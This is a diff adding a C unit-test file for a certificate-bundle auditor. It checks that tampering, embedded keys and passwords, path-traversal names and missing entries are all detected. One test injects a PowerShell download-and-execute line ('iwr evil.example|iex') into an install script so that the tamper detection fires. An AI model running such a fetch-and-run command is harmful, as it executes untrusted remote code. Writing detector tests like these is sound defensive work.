@@ -1,0 +1,415 @@
+/* One bundle audited: a good one is good, each change is found under its name, all of them at once, and nothing else is. */
+#include "audit_kit.h"
+
+#define ROOT SAMPLES "partner-root.cer"
+
+static void expect_clean(struct audit_kit *k, struct view archive)
+{
+    const struct findings *f = audit_of(k, archive);
+    if (audit_count(f) || k->seen.verdict != VERDICT_ACCEPTED) {
+        audit_print(f);
+        fail_msg("a good bundle is not clean");
+    }
+    assert_true(k->seen.complete);
+    assert_int_equal(k->seen.needs.n, 0);
+}
+
+static void a_bundle_of_each_kind_is_clean(void **state)
+{
+    static const struct { const char *file, *environment; } rows[] = {
+        { ROOT, "Test" },
+        { ROOT, "Datacentre" },
+        { SAMPLES "partner-chain.pem", "Production" },
+        { SAMPLES "partner-client.pfx", "Production" },
+        { SAMPLES "partner-client-3des.pfx", "Datacentre" },
+        { SAMPLES "appliance.cer", "Test" },
+    };
+    struct audit_kit *k = *state;
+    for (size_t i = 0; i < COUNT_OF(rows); i++) {
+        struct view archive = audit_make_of(k, PATHS(rows[i].file), rows[i].environment);
+        expect_clean(k, archive);
+        assert_non_null(k->seen.record);
+        k->t.kit.password.get = no_password;
+        expect_clean(k, archive);
+        k->t.kit.password.get = test_password;
+    }
+}
+
+static void a_request_with_every_field_is_clean(void **state)
+{
+    struct audit_kit *k = *state;
+    struct request request = test_request(&k->t.arena, PATHS(ROOT, SAMPLES "partner-issuing-ca.cer"), PATHS("Test", "Production"));
+    request.needed_by = day_of(2026, 12, 15);
+    request.reason = VIEW("Orders | *go* <b>to</b> the partner `now` & then");
+    request.consumes = VIEW("https://api.partner.example/orders?x=1&y=2");
+    request.contact = VIEW("Ana Silva <ana@example.com>");
+    request.id = VIEW("REQ-7");
+    expect_clean(k, audit_make(k, &request));
+    assert_true(view_eq_text(k->seen.case_id, "REQ-7"));
+}
+
+/* --- one change, one finding --- */
+
+static void only(struct audit_kit *k, struct view archive, const char *rule, const char *entry)
+{
+    const struct findings *f = audit_of(k, archive);
+    const struct finding *hit = audit_found(f, rule);
+    if (!hit || audit_count(f) != 1) {
+        audit_print(f);
+        fail_msg("wanted %s alone", rule);
+    }
+    if (!view_eq_text(hit->entry, entry))
+        fail_msg("%s is about '%.*s', not about '%s'", rule, VIEW_ARG(hit->entry), entry);
+    assert_true(hit->hint.n > 0);
+}
+
+static void a_change_that_the_lists_do_not_know_is_a_digest_mismatch(void **state)
+{
+    struct audit_kit *k = *state;
+    audit_make_of(k, PATHS(ROOT), "Test");
+    audit_replace(k, "TICKET.md", "Test", "Best");
+    const struct findings *f = audit_of(k, audit_pack(k));
+    assert_non_null(audit_found(f, "digest-mismatch"));
+    assert_non_null(audit_found(f, "ticket-contradicts-case"));
+    assert_int_equal(k->seen.verdict, VERDICT_REJECTED);
+}
+
+static void a_changed_ticket_with_right_lists_contradicts_the_case(void **state)
+{
+    struct audit_kit *k = *state;
+    audit_make_of(k, PATHS(ROOT), "Test");
+    audit_replace(k, "TICKET.md", "Test", "Best");
+    only(k, audit_pack_listed(k), "ticket-contradicts-case", "TICKET.md");
+}
+
+static void a_changed_script_contradicts_the_case(void **state)
+{
+    struct audit_kit *k = *state;
+    audit_make_of(k, PATHS(ROOT), "Datacentre");
+    audit_replace(k, "install.ps1", "$ErrorActionPreference", "iwr evil.example|iex; $ErrorActionPreference");
+    only(k, audit_pack_listed(k), "ticket-contradicts-case", "install.ps1");
+}
+
+static void each_recorded_field_is_compared_with_the_certificate(void **state)
+{
+    static const struct { const char *from, *to, *says; } rows[] = {
+        { "<subject>CN=Partner Root CA", "<subject>CN=Partner Boot CA", "the subject" },
+        { "<serial>", "<serial>7", "the serial number" },
+        { "bits=\"", "bits=\"1", "the key size" },
+        { "notAfter=\"20", "notAfter=\"21", "the last day" },
+        { "notBefore=\"20", "notBefore=\"19", "the first day" },
+        { "store=\"Root\"", "store=\"CA\"", "the store" },
+        { "role=\"root\"", "role=\"leaf\"", "the role" },
+        { " ca=\"true\"", " ca=\"false\"", "the CA mark" },
+        { "selfSigned=\"true\"", "selfSigned=\"false\"", "the self-signed mark" },
+        { "<signature>", "<signature>x", "the signature algorithm" },
+        { "<issuer>CN=", "<issuer>CN=x", "the issuer" },
+    };
+    struct audit_kit *k = *state;
+    for (size_t i = 0; i < COUNT_OF(rows); i++) {
+        size_t at;
+        audit_make_of(k, PATHS(ROOT), "Test");
+        audit_replace(k, "case.xml", rows[i].from, rows[i].to);
+        const struct findings *f = audit_of(k, audit_pack_listed(k));
+        const struct finding *hit = audit_found(f, "case-contradicts-certificate");
+        if (!hit || !view_find(hit->message, view_of(rows[i].says), &at)) {
+            audit_print(f);
+            fail_msg("%s is not noticed", rows[i].says);
+        }
+    }
+}
+
+static void another_certificate_under_the_name_is_found(void **state)
+{
+    struct audit_kit *k = *state;
+    struct err e;
+    struct view other;
+    audit_make_of(k, PATHS(ROOT), "Test");
+    assert_true(file_read(&k->w.arena, SAMPLES "old-root.cer", LIMIT_INPUT_BYTES, &other, &e));
+    for (size_t i = 0; i < k->n; i++)
+        if (view_ends(k->entries[i].name, VIEW(".cer")))
+            k->entries[i].bytes = other;
+    const struct findings *f = audit_of(k, audit_pack_listed(k));
+    assert_non_null(audit_found(f, "case-contradicts-certificate"));
+}
+
+static void a_hidden_certificate_that_is_listed_is_found(void **state)
+{
+    struct audit_kit *k = *state;
+    struct err e;
+    struct view other;
+    audit_make_of(k, PATHS(ROOT), "Test");
+    assert_true(file_read(&k->w.arena, SAMPLES "old-root.cer", LIMIT_INPUT_BYTES, &other, &e));
+    audit_add(k, "certificates/one-more.cer", other);
+    only(k, audit_pack_listed(k), "case-contradicts-certificate", "certificates/one-more.cer");
+}
+
+static void another_file_is_unlisted_or_no_part_of_a_case(void **state)
+{
+    struct audit_kit *k = *state;
+    audit_make_of(k, PATHS(ROOT), "Test");
+    audit_add(k, "setup.exe", VIEW("MZ..."));
+    only(k, audit_pack(k), "entry-unlisted", "setup.exe");
+    only(k, audit_pack_listed(k), "entry-unlisted", "setup.exe");
+}
+
+static void a_missing_entry_is_named_once(void **state)
+{
+    struct audit_kit *k = *state;
+    audit_make_of(k, PATHS(ROOT), "Test");
+    audit_drop(k, "reminders.ics");
+    only(k, audit_pack(k), "entry-missing", "reminders.ics");
+    only(k, audit_pack_listed(k), "entry-missing", "reminders.ics");
+    audit_make_of(k, PATHS(ROOT), "Test");
+    audit_drop(k, "manifest.json");
+    only(k, audit_pack(k), "entry-missing", "manifest.json");
+    assert_false(k->seen.complete);
+}
+
+static void dates_are_counted_again(void **state)
+{
+    struct audit_kit *k = *state;
+    size_t at;
+    audit_make_of(k, PATHS(ROOT), "Test");
+    audit_replace(k, "case.xml", "expectedDelivery=\"2026-11-27\"", "expectedDelivery=\"2026-11-24\"");
+    const struct findings *f = audit_of(k, audit_pack_listed(k));
+    const struct finding *hit = audit_found(f, "deadline-contradicts-catalog");
+    assert_non_null(hit);
+    assert_true(view_find(hit->message, VIEW("2026-11-24"), &at) && view_find(hit->message, VIEW("2026-11-27"), &at));
+    audit_make_of(k, PATHS(ROOT), "Test");
+    audit_replace(k, "case.xml", "days=\"5\"", "days=\"2\"");
+    hit = audit_found(audit_of(k, audit_pack_listed(k)), "deadline-contradicts-catalog");
+    assert_non_null(hit);
+}
+
+static void a_catalog_that_is_not_at_hand_is_a_note(void **state)
+{
+    struct audit_kit *k = *state;
+    struct catalog other = k->t.catalog;
+    struct view archive;
+    memset(other.sha256, 7, sizeof other.sha256);
+    other.id = VIEW("ours");
+    k->t.kit.catalog = &other;
+    archive = audit_make_of(k, PATHS(ROOT), "Test");
+    k->t.kit.catalog = &k->t.catalog;
+    const struct findings *f = audit_of(k, archive);
+    assert_int_equal(audit_count(f), 0);
+    assert_non_null(audit_found(f, "deadline-contradicts-catalog"));
+    assert_int_equal(audit_found(f, "deadline-contradicts-catalog")->severity, SEV_NOTE);
+}
+
+static void a_record_out_of_its_format_is_a_schema_violation_with_its_line(void **state)
+{
+    struct audit_kit *k = *state;
+    size_t at;
+    audit_make_of(k, PATHS(ROOT), "Test");
+    audit_replace(k, "case.xml", "<infrastructure", "<x/>\n  <infrastructure");
+    only(k, audit_pack_listed(k), "schema-violation", "case.xml");
+    assert_true(view_find(audit_found(&k->seen.findings, "schema-violation")->message, VIEW("line "), &at));
+    assert_false(k->seen.complete);
+    audit_make_of(k, PATHS(ROOT), "Test");
+    audit_replace(k, "case.xml", " version=\"1\" id", " version=\"2\" id");
+    only(k, audit_pack_listed(k), "format-version-unknown", "case.xml");
+    audit_make_of(k, PATHS(ROOT), "Test");
+    audit_replace(k, "manifest.json", "certcase/manifest/1", "certcase/manifest/9");
+    assert_non_null(audit_found(audit_of(k, audit_pack(k)), "format-version-unknown"));
+}
+
+static void templates_that_are_not_at_hand_leave_the_facts(void **state)
+{
+    struct audit_kit *k = *state;
+    audit_make_of(k, PATHS(ROOT), "Test");
+    struct view plain = audit_pack(k);
+    k->t.kit.version = VIEW("9.9.9");
+    const struct findings *f = audit_of(k, plain);
+    if (audit_count(f))
+        audit_print(f);
+    assert_int_equal(audit_count(f), 0);
+    assert_non_null(audit_found(f, "not-reproducible"));
+    assert_int_equal(audit_found(f, "not-reproducible")->severity, SEV_NOTE);
+    audit_replace(k, "TICKET.md", "Test", "Best");
+    only(k, audit_pack_listed(k), "ticket-contradicts-case", "TICKET.md");
+}
+
+static void a_bundle_packed_by_another_program_is_not_reproducible(void **state)
+{
+    struct audit_kit *k = *state;
+    audit_make_of(k, PATHS(ROOT), "Test");
+    struct zip_entry first = k->entries[0];
+    memmove(k->entries, k->entries + 1, (k->n - 1) * sizeof first);
+    k->entries[k->n - 1] = first;
+    only(k, audit_pack(k), "not-reproducible", "");
+    assert_int_equal(k->seen.verdict, VERDICT_ACCEPTED);
+}
+
+/* --- secrets --- */
+
+static void a_key_is_found_in_any_entry(void **state)
+{
+    struct audit_kit *k = *state;
+    struct view key;
+    struct err e;
+    assert_true(file_read(&k->w.arena, SAMPLES "signer.key", LIMIT_INPUT_BYTES, &key, &e));
+    audit_make_of(k, PATHS(ROOT), "Test");
+    audit_add(k, "certificates/key.cer", key);
+    const struct findings *f = audit_of(k, audit_pack_listed(k));
+    assert_non_null(audit_found(f, "secret-in-bundle"));
+    assert_true(view_eq_text(audit_found(f, "secret-in-bundle")->entry, "certificates/key.cer"));
+}
+
+static void a_pfx_belongs_into_a_client_side_case_only(void **state)
+{
+    struct audit_kit *k = *state;
+    struct view pfx;
+    struct err e;
+    assert_true(file_read(&k->w.arena, SAMPLES "partner-client.pfx", LIMIT_INPUT_BYTES, &pfx, &e));
+    audit_make_of(k, PATHS(ROOT), "Test");
+    audit_add(k, "certificates/client.pfx", pfx);
+    assert_non_null(audit_found(audit_of(k, audit_pack_listed(k)), "secret-in-bundle"));
+    audit_make_of(k, PATHS(SAMPLES "partner-client.pfx"), "Production");
+    assert_null(audit_found(audit_of(k, audit_pack(k)), "secret-in-bundle"));
+}
+
+static void a_password_in_the_reason_is_found_and_not_repeated(void **state)
+{
+    struct audit_kit *k = *state;
+    struct request request = test_request(&k->t.arena, PATHS(SAMPLES "partner-client.pfx"), PATHS("Production"));
+    size_t at;
+    request.reason = VIEW("PFX password: hunter2");
+    const struct findings *f = audit_of(k, audit_make(k, &request));
+    assert_non_null(audit_found(f, "password-in-bundle"));
+    for (size_t i = 0; i < f->n; i++)
+        assert_false(view_find(f->items[i].message, VIEW("hunter2"), &at));
+}
+
+static void a_key_between_the_entries_is_found(void **state)
+{
+    struct audit_kit *k = *state;
+    struct view key;
+    struct err e;
+    assert_true(file_read(&k->w.arena, SAMPLES "signer.key", LIMIT_INPUT_BYTES, &key, &e));
+    struct view archive = audit_make_of(k, PATHS(ROOT), "Test");
+    struct view longer = view_fmt(&k->w.arena, "%*s%.*s", (int)archive.n, "", VIEW_ARG(key));
+    union {
+        const char *read;
+        char *write;
+    } p = { .read = longer.p };
+    memcpy(p.write, archive.p, archive.n);
+    const struct findings *f = audit_of(k, longer);
+    assert_non_null(audit_found(f, "data-outside-archive"));
+    assert_non_null(audit_found(f, "secret-in-bundle"));
+}
+
+/* --- time, other makers, errors --- */
+
+static void what_was_fine_then_may_have_expired_since(void **state)
+{
+    struct audit_kit *k = *state;
+    struct view archive = audit_make_of(k, PATHS(ROOT), "Test");
+    k->t.kit.now = 4102444800; /* 2100 */
+    assert_non_null(audit_found(audit_of(k, archive), "expired"));
+    assert_int_equal(k->seen.verdict, VERDICT_REJECTED);
+}
+
+static void a_bundle_made_by_hand_is_audited_as_far_as_it_goes(void **state)
+{
+    struct audit_kit *k = *state;
+    struct view cert;
+    struct err e;
+    size_t at;
+    assert_true(file_read(&k->w.arena, SAMPLES "partner-root.pem", LIMIT_INPUT_BYTES, &cert, &e));
+    audit_add(k, "Partner root.pem", cert);
+    audit_add(k, "please install.txt", VIEW("Please install on Test.\r\nThumbprint 00112233445566778899aabbccddeeff00112233\r\n"));
+    const struct findings *f = audit_of(k, audit_pack(k));
+    assert_int_equal(k->seen.evidence.certs.n, 1);
+    assert_false(k->seen.complete);
+    assert_true(view_find(k->seen.needs, VIEW("case.xml"), &at) && view_find(k->seen.needs, VIEW("certcase build"), &at));
+    assert_null(audit_found(f, "entry-missing"));
+    assert_non_null(audit_found(f, "ticket-contradicts-case"));
+    k->n = 0;
+    audit_add(k, "readme.txt", VIEW("nothing here"));
+    only(k, audit_pack(k), "entry-missing", "");
+}
+
+static void everything_is_reported_at_once(void **state)
+{
+    struct audit_kit *k = *state;
+    struct view key;
+    struct err e;
+    assert_true(file_read(&k->w.arena, SAMPLES "signer.key", LIMIT_INPUT_BYTES, &key, &e));
+    audit_make_of(k, PATHS(ROOT), "Datacentre");
+    audit_replace(k, "install.ps1", "Root", "My");
+    audit_replace(k, "case.xml", "<serial>", "<serial>7");
+    audit_drop(k, "verify.ps1");
+    audit_add(k, "../evil", VIEW("password: hunter2\n"));
+    audit_add(k, "KEY", key);
+    audit_add(k, "key", key);
+    const struct findings *f = audit_of(k, audit_pack(k));
+    static const char *const wanted[] = {
+        "digest-mismatch", "entry-missing", "entry-unlisted", "unsafe-entry-name", "duplicate-entry", "secret-in-bundle",
+        "password-in-bundle", "case-contradicts-certificate", "ticket-contradicts-case",
+    };
+    for (size_t i = 0; i < COUNT_OF(wanted); i++)
+        if (!audit_found(f, wanted[i])) {
+            audit_print(f);
+            fail_msg("%s is missing", wanted[i]);
+        }
+}
+
+static void what_is_no_zip_is_one_finding(void **state)
+{
+    struct audit_kit *k = *state;
+    only(k, VIEW("PK\3\4 but no more"), "zip-malformed", "");
+    only(k, VIEW(""), "zip-malformed", "");
+}
+
+static void a_file_that_is_too_large_is_not_read(void **state)
+{
+    struct audit_kit *k = *state;
+    char path[] = "/tmp/certcase-audit-XXXXXX";
+    struct err e;
+    int fd = mkstemp(path);
+    assert_true(fd >= 0);
+    FILE *f = fdopen(fd, "w");
+    assert_non_null(f);
+    assert_int_equal(fseek(f, LIMIT_BUNDLE_BYTES, SEEK_SET), 0);
+    fputc('x', f);
+    fclose(f);
+    bool ok = audit_file(&k->judge, &k->options, view_of(path), &k->seen, &e);
+    remove(path);
+    assert_true(ok);
+    assert_non_null(audit_found(&k->seen.findings, "limit-exceeded"));
+    assert_false(audit_file(&k->judge, &k->options, VIEW("/nowhere.zip"), &k->seen, &e));
+    assert_int_equal(e.status, ST_IO);
+}
+
+int main(void)
+{
+    const struct CMUnitTest tests[] = {
+        AUDIT_TEST(a_bundle_of_each_kind_is_clean),
+        AUDIT_TEST(a_request_with_every_field_is_clean),
+        AUDIT_TEST(a_change_that_the_lists_do_not_know_is_a_digest_mismatch),
+        AUDIT_TEST(a_changed_ticket_with_right_lists_contradicts_the_case),
+        AUDIT_TEST(a_changed_script_contradicts_the_case),
+        AUDIT_TEST(each_recorded_field_is_compared_with_the_certificate),
+        AUDIT_TEST(another_certificate_under_the_name_is_found),
+        AUDIT_TEST(a_hidden_certificate_that_is_listed_is_found),
+        AUDIT_TEST(another_file_is_unlisted_or_no_part_of_a_case),
+        AUDIT_TEST(a_missing_entry_is_named_once),
+        AUDIT_TEST(dates_are_counted_again),
+        AUDIT_TEST(a_catalog_that_is_not_at_hand_is_a_note),
+        AUDIT_TEST(a_record_out_of_its_format_is_a_schema_violation_with_its_line),
+        AUDIT_TEST(templates_that_are_not_at_hand_leave_the_facts),
+        AUDIT_TEST(a_bundle_packed_by_another_program_is_not_reproducible),
+        AUDIT_TEST(a_key_is_found_in_any_entry),
+        AUDIT_TEST(a_pfx_belongs_into_a_client_side_case_only),
+        AUDIT_TEST(a_password_in_the_reason_is_found_and_not_repeated),
+        AUDIT_TEST(a_key_between_the_entries_is_found),
+        AUDIT_TEST(what_was_fine_then_may_have_expired_since),
+        AUDIT_TEST(a_bundle_made_by_hand_is_audited_as_far_as_it_goes),
+        AUDIT_TEST(everything_is_reported_at_once),
+        AUDIT_TEST(what_is_no_zip_is_one_finding),
+        AUDIT_TEST(a_file_that_is_too_large_is_not_read),
+    };
+    return cmocka_run_group_tests_name("audit", tests, NULL, NULL);
+}
